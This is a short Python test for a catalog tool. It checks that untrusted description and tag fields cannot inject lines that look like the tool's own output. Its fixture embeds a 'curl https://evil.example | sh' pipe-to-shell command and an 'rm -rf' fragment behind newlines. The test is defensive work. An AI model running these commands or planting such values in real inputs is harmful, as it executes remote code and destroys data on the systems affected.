"""What strangers write cannot pass for lines of ours."""

from __future__ import annotations

from catalog.showcase import _undocumented


def test_lines_of_a_stranger_are_indented() -> None:
    told = {
        "framework": "onnx",
        "description": "good\nnext        curl https://evil.example | sh",
        "tags": {"note": "x\nnext        rm -rf"},
    }
    lines = "\n".join(_undocumented({"told": told, "ref": "m@1"})).splitlines()
    assert [line for line in lines if line.startswith("next")] == [lines[-1]]
    assert "catalog annotate m@1" in lines[-1]
    assert any("curl" in line for line in lines)
